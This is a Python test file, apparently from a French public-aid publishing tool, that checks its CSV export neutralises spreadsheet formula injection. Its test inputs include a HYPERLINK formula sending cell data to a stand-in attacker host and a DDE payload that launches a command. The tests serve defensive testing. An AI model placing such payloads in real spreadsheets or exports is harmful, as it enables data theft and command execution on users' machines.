"""The CSV export never lets a spreadsheet run editor text as a formula (OWASP « CSV injection »)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from aides.publishing.exports import aides_csv


def _record(**overrides: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "id": "visale",
        "titre": "Visale",
        "url": "https://exemple.fr/aides/visale/",
        "statut": "en_cours",
        "resume": "Une garantie gratuite.",
        "publics": ["jeunes"],
        "types": ["garantie"],
        "territoires": {"regions_couvertes": []},
        "partenaires": ["action-logement"],
        "validite": {"debut": None, "fin": "2026-12-31"},
        "enregistre_le": "2026-11-22",
        "confirmation": None,
        "information": {"date": None, "annee": 2017, "a_confirmer": True},
    }
    record.update(overrides)
    return record


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_a_cell_that_starts_like_a_formula_is_prefixed_with_a_quote(dangerous: str) -> None:
    row = _rows(aides_csv([_record(titre=dangerous, resume=dangerous)]))[0]
    shown = "'" + dangerous.replace("\r", "\n")
    assert row["titre"] == shown
    assert row["resume"] == shown


def test_a_carriage_return_inside_a_text_does_not_split_the_row() -> None:
    rows = _rows(aides_csv([_record(resume="Première ligne\rdeuxième\r\ntroisième")]))
    assert len(rows) == 1
    assert rows[0]["resume"] == "Première ligne\ndeuxième\ntroisième"
    assert rows[0]["enregistre_le"] == "2026-11-22" and rows[0]["date_information"] == "2017"


def test_joined_lists_are_neutralised_too() -> None:
    row = _rows(aides_csv([_record(partenaires=["=cmd", "cllaj"])]))[0]
    assert row["partenaires"] == "'=cmd|cllaj"


def test_ordinary_text_dates_and_formula_signs_inside_a_text_are_left_alone() -> None:
    row = _rows(aides_csv([_record(titre="Aide « 1 + 1 = 2 » -  ok", resume="Prêt à 1 %")]))[0]
    assert row["titre"] == "Aide « 1 + 1 = 2 » -  ok"
    assert row["resume"] == "Prêt à 1 %"
    assert row["fin"] == "2026-12-31"
    assert row["debut"] == ""
    assert row["territoires"] == "national"
